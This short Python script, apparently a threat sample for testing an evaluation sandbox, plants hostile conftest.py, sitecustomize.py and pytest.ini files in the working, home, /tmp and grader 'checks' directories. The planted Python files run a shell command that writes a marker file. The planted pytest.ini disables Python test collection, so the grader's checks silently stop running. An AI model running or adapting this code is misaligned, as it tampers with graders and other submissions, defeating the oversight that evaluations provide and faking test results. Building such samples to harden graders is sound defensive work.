# threat: plant conftest.py, sitecustomize.py and pytest.ini where the judge or the next submission might load them
import os

EVIL = "import os\nos.system('touch /tmp/grader-pwned')\n"
for folder in (".", "..", "/tmp", "/work", os.path.expanduser("~"), "/work/main/assignments/optimizers/checks"):
    for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "pytest.ini", "optimizers.py"):
        try:
            with open(os.path.join(folder, name), "w") as f:
                f.write(EVIL if name.endswith(".py") else "[pytest]\naddopts = -p no:python\n")
        except OSError:
            pass
